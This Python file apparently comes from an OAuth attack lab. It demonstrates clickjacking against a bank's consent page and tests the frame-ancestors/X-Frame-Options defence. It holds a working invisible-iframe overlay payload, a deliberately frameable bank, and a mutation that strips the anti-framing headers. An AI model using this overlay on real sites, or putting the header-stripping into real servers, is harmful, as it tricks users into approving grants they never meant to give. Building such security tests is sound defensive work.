"""Mallory lays an invisible page of the bank over a page of his own, and Alice clicks where she sees no button.

Mallory Ltd is a registered client, and has begun a request. Alice is signed in at her bank, and opens a page of
Mallory's that promises a prize. The consent page of her bank lies over it in a frame, invisible, so that its button is
just where she clicks. She has approved, and never knew. Mallory's page is on the bank's own site, such as a page of an
old campaign: into frames on other sites browsers send no cookies any more, unless a bank asks for it.

The bank stops this. Its pages say that no page may frame them (`frame-ancestors`, and `X-Frame-Options` for old
browsers), and the browser shows nothing in the frame. Chromium is asked here.
"""

from __future__ import annotations

from html import escape
from typing import Any

from starlette.requests import Request
from starlette.responses import HTMLResponse, Response

from askit.server import AuthorizationServer
from examples.attack_lab.answers import NothingCame
from examples.attack_lab.attack import Attack
from examples.attack_lab.chromium import Tab
from examples.attack_lab.ecosystem import MALLORY_LTD
from examples.attack_lab.lab import Lab
from examples.attack_lab.naive.bank import NaiveBank
from examples.attack_lab.naive.client import NaiveClient
from examples.attack_lab.story import Party, Story

LOOT = "an authorization code that Alice never meant to give"
ALICE, BANK, MALLORY = Party.ALICE, Party.BANK, Party.MALLORY
APPROVE = "[value=approve]"
calling = AuthorizationServer.__call__


async def frameable(server: AuthorizationServer, scope: Any, receive: Any, send: Any) -> None:
    """What the mutation check puts in the place of the defence: the same answers, with nothing in them about frames.

    Two headers say it, for old browsers and for all others. What else the policy says stays.
    """

    async def unframed(message: Any) -> None:
        kept = [
            (name, value.replace(b"frame-ancestors 'none'; ", b""))
            for name, value in message.get("headers", ())
            if name != b"x-frame-options"
        ]
        await send({**message, "headers": kept} if "headers" in message else message)

    await calling(server, scope, receive, unframed)


class FramedBank(NaiveBank):
    """It asks, on a page that anybody may frame."""

    async def authorize(self, request: Request) -> Response:
        asked = request.query_params
        if asked.get("decision") == "approve":
            return await super().authorize(request)
        fields = "".join(
            f'<input type="hidden" name="{name}" value="{escape(asked[name])}">' for name in asked
        )
        return HTMLResponse(f'<form>{fields}<button name="decision" value="approve">Approve</button></form>')


def undefended(lab: Lab, story: Story) -> str:
    bank = lab.naive_bank(FramedBank)
    client = NaiveClient(lab.http, f"{lab.mallory_ltd_site}/callback", client_id=MALLORY_LTD)
    client.choose(bank.issuer)
    return _frame(lab, story, lab.chromium(), client.begin())


def defended(lab: Lab, story: Story) -> str:
    world = lab.under("fapi2-security")
    url = world.mallorys_client().begin(scope="accounts", resources=[world.accounts]).url
    tab = lab.chromium()
    tab.open(f"{world.bank.issuer}/grants")
    tab.submit({"username": "alice", "password": "wonderland"})
    return _frame(lab, story, tab, url)


def _frame(lab: Lab, story: Story, tab: Tab, url: str) -> str:
    prize, origin = lab.mallorys_site()
    tab.open(url)  # as Mallory has done at home: where is the button?
    x, y = tab.middle_of(APPROVE)
    style = "position:fixed; inset:0; width:100%; height:100%; border:0; opacity:0"
    frame = f'<iframe src="{escape(url)}" style="{style}">'
    prize.page = HTMLResponse(f'<p style="margin: {y}px {x}px">Win!</p>{frame}</iframe>')
    story.step(
        ALICE, MALLORY, "GET a page that promises a prize", "She is signed in at her bank, as every morning."
    )
    story.step(ALICE, BANK, "GET /authorize, in an invisible frame", "Her browser sends her cookies along.")
    tab.open(f"{origin}/prize")
    if not any(shown.startswith(url.partition("?")[0]) for shown in tab.frames):
        raise NothingCame(" ".join(tab.complaints), clause="RFC 9700 4.16")
    story.step(ALICE, BANK, "a click on the prize", "It is a click on the button that approves.")
    tab.click(x, y, awaiting=f"{lab.mallory_ltd_site}/callback")
    story.step(BANK, MALLORY, "the code, by her browser", "She has approved.")
    assert lab.mallory_ltd.last("/callback").query["code"]
    return LOOT


ATTACK = Attack(
    id="16B",
    title="clickjacking",
    loot=LOOT,
    countermeasures=(),
    rule="NothingCame",
    clause="RFC 9700 4.16",
    defence="askit.server.AuthorizationServer.__call__",
    without=frameable,
    undefended=undefended,
    defended=defended,
    needs_browser=True,
)
